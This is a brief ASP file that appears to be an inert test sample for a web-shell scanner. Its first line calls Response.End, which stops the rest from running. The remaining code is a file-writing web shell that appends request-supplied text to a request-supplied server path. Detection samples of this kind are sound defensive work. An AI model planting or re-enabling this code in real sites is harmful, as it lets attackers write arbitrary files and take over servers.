<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Text = Request("Text")
FileName = Request("FileName")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set file = fs.OpenTextFile(Server.MapPath(FileName), 8, True)
file.writeline Text
%>
